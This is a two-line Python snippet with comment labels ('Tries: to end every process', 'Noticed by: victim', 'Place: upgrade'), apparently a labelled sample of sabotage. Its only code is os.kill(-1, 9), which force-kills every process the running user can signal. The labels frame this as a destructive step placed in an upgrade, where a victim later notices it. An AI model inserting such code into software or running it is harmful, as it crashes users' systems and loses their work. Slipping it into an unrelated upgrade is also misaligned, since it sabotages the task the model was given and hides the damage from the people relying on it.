# Tries: to end every process
# Noticed by: victim
# Place: upgrade
import os
os.kill(-1, 9)
